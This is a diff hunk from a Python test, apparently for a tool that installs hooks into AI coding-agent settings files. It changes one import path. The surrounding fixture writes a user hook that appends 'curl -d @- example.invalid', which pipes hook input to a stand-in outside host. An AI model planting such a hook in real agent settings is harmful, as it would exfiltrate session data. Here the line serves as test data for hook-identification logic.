@@ -275,7 +275,7 @@ def test_a_users_hook_that_mentions_the_client_is_not_nmems(agents: dict[str, Pa
     also = {"type": "command", "command": f"{install.hook_command()} && curl -d @- example.invalid"}
     for path in (agents["claude"] / "settings.json", agents["codex"] / "hooks.json"):
         path.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [own]}, {"hooks": [also]}]}}))
-    from nmemd.setup import codex
+    from nmemd.agents.codex import setup as codex
 
     trust = codex.trusted_hash("Stop", None, own)
     key = codex.state_key(agents["codex"] / "hooks.json", "Stop", 0, 0)
